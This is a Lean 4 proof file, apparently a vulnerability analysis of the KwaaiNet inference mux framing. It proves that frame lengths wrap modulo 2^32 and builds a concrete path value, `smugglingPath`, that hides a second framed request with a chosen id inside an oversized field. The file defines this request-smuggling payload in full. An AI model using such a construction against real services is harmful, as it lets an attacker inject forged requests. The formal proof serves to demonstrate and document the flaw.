import KwaaiNet.Inference.MuxFrame

/-! # A request that is longer than its frame says

The length in a frame is the length of the payload modulo `2 ^ 32`. A request with a path of
`2 ^ 32 - 6` bytes has an encoding of `2 ^ 32 + 31` bytes, and its frame says 31: a reader takes
the first 31 bytes for the payload, and what follows, which is the path itself, for the next
frames (`KwaaiNet.frame_oversized`). A path can hold the frame of another request: the record
`KwaaiNet.smuggledRecord` is written with bytes that are UTF-8, and it is read as a request with
a chosen id.
-/

namespace KwaaiNet

open Foundation Foundation.MessagePack List

/-! ## The frame of an oversized request -/

/-- `2 ^ 32 - 6`. -/
def oversizedLength : Nat := 4294967290

/-- The first 31 bytes of the encoding: everything up to the path. -/
def oversizedHead : List UInt8 :=
  mapHeader 4 ++ (packStr "request_id" ++ packUint 1) ++ (packStr "method" ++ packStr "") ++
    packStr "path" ++ strHeader oversizedLength

/-- The last six bytes of the encoding. -/
def oversizedTail : List UInt8 := packStr "body" ++ packBytes []

def oversized (path : String) : MuxRequest := ⟨1, "", path, []⟩

theorem fromSlice_oversizedHead : MuxRequest.fromSlice oversizedHead = none := by
  decide +kernel

theorem frame_oversized {path : String} (length : (utf8Bytes path).length = oversizedLength) :
    frame (oversized path).toVecNamed =
      frame oversizedHead ++ (utf8Bytes path ++ oversizedTail) := by
  have encoding : (oversized path).toVecNamed =
      oversizedHead ++ (utf8Bytes path ++ oversizedTail) := by
    have field : packStr path = strHeader oversizedLength ++ utf8Bytes path := by
      rw [packStr, length]
    simp only [MuxRequest.toVecNamed, oversized, packRecord, field, oversizedHead, oversizedTail,
      flatMap_cons, flatMap_nil, append_nil, append_assoc]
    rfl
  have head : oversizedHead.length = 31 := by decide +kernel
  have tail : oversizedTail.length = 6 := by decide +kernel
  have wraps : toLE 4 (oversized path).toVecNamed.length = toLE 4 oversizedHead.length := by
    rw [encoding, length_append, length_append, length, head, tail]
    decide
  rw [frame, frame, wraps, encoding, append_assoc]

/-! ## A record with numbered fields -/

section NumberedRecord

variable {request : MuxRequest} (method : (utf8Bytes request.method).length < 256 ^ 4)
  (path : (utf8Bytes request.path).length < 256 ^ 4) (body : request.body.length < 256 ^ 4)
  {ignored : Nat} (few : 4 + ignored < 256 ^ 4)

theorem small_fits {n : Nat} (small : n < 128) : n < 256 ^ 8 :=
  Nat.lt_of_lt_of_le small (by decide)

/-- A number below 128. -/
def packedSmall (n : Fin 128) : Packed 1022 := .uint n (small_fits n.isLt)

theorem requestId_fits (request : MuxRequest) : request.requestId.toNat < 2 ^ 64 :=
  request.requestId.toNat_lt

def packedId (request : MuxRequest) : Packed 1022 :=
  .uint request.requestId.toNat (requestId_fits request)

def numberedPairs (ignored : Nat) : List (Packed 1022 × Packed 1022) :=
  [(packedSmall 0, packedId request),
    (packedSmall 1, .str request.method method),
    (packedSmall 2, .str request.path path),
    (packedSmall 3, .byteArray request.body body)] ++
    List.replicate ignored (packedSmall 4, packedSmall 0)

theorem length_numberedPairs : (numberedPairs method path body ignored).length = 4 + ignored := by
  rw [numberedPairs, length_append, length_replicate]
  rfl

def numberedRecord : Packed maxDepth :=
  .map (numberedPairs method path body ignored) (by rwa [length_numberedPairs])

variable (request) in
def numberedValues : List (Value × Value) :=
  [(.uint 0, .uint request.requestId.toNat), (.uint 1, .str (utf8Bytes request.method)),
    (.uint 2, .str (utf8Bytes request.path)),
    (.uint 3, .array (request.body.map fun byte => .uint byte.toNat))]

theorem fromSlice_numberedRecord :
    MuxRequest.fromSlice (numberedRecord method path body few).bytes = some request := by
  have reads := (numberedRecord method path body few).reads []
  rw [append_nil] at reads
  have values : (numberedRecord method path body few).value =
      .map (numberedValues request ++ List.replicate ignored (Value.uint 4, Value.uint 0)) := by
    simp only [numberedRecord, Packed.map, numberedPairs, map_append, map_replicate]
    rfl
  have unknown : ∀ pair ∈ List.replicate ignored (Value.uint 4, Value.uint 0),
      readKey MuxRequest.fieldNames pair.1 = .ignored := by
    intro pair member
    rw [eq_of_mem_replicate member]
    rfl
  have fields : readFields MuxRequest.fieldNames (numberedRecord method path body few).value =
      some [.uint request.requestId.toNat, .str (utf8Bytes request.method),
        .str (utf8Bytes request.path),
        .array (request.body.map fun byte => .uint byte.toNat)] := by
    have known : fillFields MuxRequest.fieldNames (numberedValues request)
        (List.replicate MuxRequest.fieldNames.length none) =
        some [some (.uint request.requestId.toNat), some (.str (utf8Bytes request.method)),
          some (.str (utf8Bytes request.path)),
          some (.array (request.body.map fun byte => .uint byte.toNat))] := rfl
    rw [values, readFields, fillFields_append, known, Option.bind_some,
      fillFields_of_ignored _ unknown]
    rfl
  rw [MuxRequest.fromSlice, reads, Option.bind_some, fields]
  exact request.ofFields_values

theorem bytes_numberedRecord :
    (numberedRecord method path body few).bytes =
      mapHeader (4 + ignored) ++ (0 :: packUint request.requestId.toNat ++
        (1 :: packStr request.method ++ (2 :: packStr request.path ++
          (3 :: packBytes request.body ++ (List.replicate ignored [4, 0]).flatten)))) := by
  have pairs : (numberedRecord method path body few).bytes =
      mapHeader (numberedPairs method path body ignored).length ++
        (numberedPairs method path body ignored).flatMap pairBytes := rfl
  rw [pairs, length_numberedPairs, numberedPairs, flatMap_append, flatMap_replicate]
  simp only [pairBytes, packedSmall, packedId, Packed.uint, Packed.str, Packed.byteArray,
    flatMap_cons, flatMap_nil, append_nil, append_assoc]
  rfl

end NumberedRecord

/-! ## A record whose frame is UTF-8 -/

def wideRequest (method path body : Nat) : MuxRequest where
  requestId := 2
  method := String.ofList (List.replicate method 'G')
  path := String.ofList (List.replicate path '/')
  body := List.replicate body 0

theorem flatMap_utf8_replicate (count : Nat) {char : Char} {byte : UInt8}
    (single : String.utf8EncodeChar char = [byte]) :
    (List.replicate count char).flatMap String.utf8EncodeChar = List.replicate count byte := by
  induction count with
  | zero => rfl
  | succ count ih =>
    rw [replicate_succ, replicate_succ, flatMap_cons, ih, single]
    rfl

theorem utf8Bytes_replicate (count : Nat) {char : Char} {byte : UInt8}
    (single : String.utf8EncodeChar char = [byte]) :
    utf8Bytes (String.ofList (List.replicate count char)) = List.replicate count byte := by
  rw [utf8Bytes_ofList, flatMap_utf8_replicate count single]

theorem packBytes_replicate (count : Nat) :
    packBytes (List.replicate count 0) = arrayHeader count ++ List.replicate count 0 := by
  rw [packBytes, length_replicate]
  congr 1
  induction count with
  | zero => rfl
  | succ count ih =>
    rw [replicate_succ, flatMap_cons, ih]
    rfl

/-- The characters of the frame of the record. -/
def smuggledChars : List Char :=
  ['\x01', '\x00', '\x02', '\x00', Char.ofNat 0x7bf, '\x7d', '\x00', '\x02', '\x01',
    Char.ofNat 0x640] ++
    (List.replicate 128 'G' ++ (['\x02', Char.ofNat 0x640] ++ (List.replicate 128 '/' ++
      (['\x03', Char.ofNat 0x700, '\x00'] ++ (List.replicate 32768 '\x00' ++
        (List.replicate 49017 ['\x04', '\x00']).flatten)))))

def smuggledRequest : MuxRequest := wideRequest 128 128 32768

theorem length_method : (utf8Bytes smuggledRequest.method).length = 128 := by
  rw [smuggledRequest, wideRequest, @utf8Bytes_replicate 128 'G' 71 (by decide),
    length_replicate]

theorem length_path : (utf8Bytes smuggledRequest.path).length = 128 := by
  rw [smuggledRequest, wideRequest, @utf8Bytes_replicate 128 '/' 47 (by decide),
    length_replicate]

theorem length_body : smuggledRequest.body.length = 32768 := length_replicate

def smuggledRecord : Packed maxDepth :=
  @numberedRecord smuggledRequest (by rw [length_method]; decide) (by rw [length_path]; decide)
    (by rw [length_body]; decide) 49017 (by decide)

theorem fromSlice_smuggledRecord :
    MuxRequest.fromSlice smuggledRecord.bytes = some smuggledRequest :=
  fromSlice_numberedRecord _ _ _ _

theorem bytes_smuggledRecord : smuggledRecord.bytes =
    [0xde, 0xbf, 0x7d, 0x00, 0x02, 0x01, 0xd9, 0x80] ++ (List.replicate 128 71 ++
      ([0x02, 0xd9, 0x80] ++ (List.replicate 128 47 ++ ([0x03, 0xdc, 0x80, 0x00] ++
        (List.replicate 32768 0 ++ (List.replicate 49017 [4, 0]).flatten))))) := by
  have method : packStr smuggledRequest.method = [0xd9, 0x80] ++ List.replicate 128 71 := by
    rw [packStr, length_method, smuggledRequest, wideRequest,
      @utf8Bytes_replicate 128 'G' 71 (by decide), (by decide : strHeader 128 = [0xd9, 0x80])]
  have path : packStr smuggledRequest.path = [0xd9, 0x80] ++ List.replicate 128 47 := by
    rw [packStr, length_path, smuggledRequest, wideRequest,
      @utf8Bytes_replicate 128 '/' 47 (by decide), (by decide : strHeader 128 = [0xd9, 0x80])]
  have body : packBytes smuggledRequest.body = [0xdc, 0x80, 0x00] ++ List.replicate 32768 0 := by
    rw [smuggledRequest, wideRequest, packBytes_replicate,
      (by decide : arrayHeader 32768 = [0xdc, 0x80, 0x00])]
  have requestId : packUint smuggledRequest.requestId.toNat = [0x02] := by
    rw [smuggledRequest, wideRequest]
    decide
  have pairs : mapHeader (4 + 49017) = [0xde, 0xbf, 0x7d] := by decide
  rw [smuggledRecord, bytes_numberedRecord, method, path, body, requestId, pairs]
  simp only [cons_append, nil_append]

theorem length_smuggledRecord : smuggledRecord.bytes.length = 131073 := by
  have ignored : (List.replicate 49017 [(4 : UInt8), 0]).flatten.length = 98034 := by
    rw [length_flatten, map_replicate, sum_replicate_nat]
    rfl
  rw [bytes_smuggledRecord, length_append, length_append, length_append,
    length_append, length_append, length_append, length_replicate,
    length_replicate, length_replicate, ignored]
  rfl

theorem flatMap_utf8_smuggledChars :
    smuggledChars.flatMap String.utf8EncodeChar = frame smuggledRecord.bytes := by
  have zeros : (List.replicate 32768 '\x00').flatMap String.utf8EncodeChar =
      List.replicate 32768 0 := flatMap_utf8_replicate _ (by decide)
  have method : (List.replicate 128 'G').flatMap String.utf8EncodeChar =
      List.replicate 128 71 := flatMap_utf8_replicate _ (by decide)
  have path : (List.replicate 128 '/').flatMap String.utf8EncodeChar =
      List.replicate 128 47 := flatMap_utf8_replicate _ (by decide)
  have ignored : (List.replicate 49017 ['\x04', '\x00']).flatten.flatMap String.utf8EncodeChar =
      (List.replicate 49017 [4, 0]).flatten := by
    have pair : (id ['\x04', '\x00']).flatMap String.utf8EncodeChar = [4, 0] := by decide
    rw [← flatMap_id, flatMap_assoc, flatMap_replicate, pair]
  have head : ['\x01', '\x00', '\x02', '\x00', Char.ofNat 0x7bf, '\x7d', '\x00', '\x02', '\x01',
      Char.ofNat 0x640].flatMap String.utf8EncodeChar =
      toLE 4 131073 ++ [0xde, 0xbf, 0x7d, 0x00, 0x02, 0x01, 0xd9, 0x80] := by decide
  have second : ['\x02', Char.ofNat 0x640].flatMap String.utf8EncodeChar = [0x02, 0xd9, 0x80] := by
    decide
  have third : ['\x03', Char.ofNat 0x700, '\x00'].flatMap String.utf8EncodeChar =
      [0x03, 0xdc, 0x80, 0x00] := by decide
  rw [frame, length_smuggledRecord, bytes_smuggledRecord, smuggledChars]
  simp only [flatMap_append, head, method, second, path, third, zeros, ignored,
    append_assoc]

/-- A path of `2 ^ 32 - 6` bytes that starts with the frame of the record. -/
def smugglingPath : String := String.ofList (smuggledChars ++ List.replicate 4294836213 ' ')

theorem utf8Bytes_smugglingPath : utf8Bytes smugglingPath =
    frame smuggledRecord.bytes ++ List.replicate 4294836213 32 := by
  rw [smugglingPath, utf8Bytes_ofList, flatMap_append, flatMap_utf8_smuggledChars,
    @flatMap_utf8_replicate _ ' ' 32 (by decide)]

theorem length_smugglingPath : (utf8Bytes smugglingPath).length = oversizedLength := by
  have total : 4 + 131073 + 4294836213 = oversizedLength := by
    rw [oversizedLength]
  rw [utf8Bytes_smugglingPath, length_append, length_replicate, frame,
    length_append, length_toLE, length_smuggledRecord, total]

end KwaaiNet
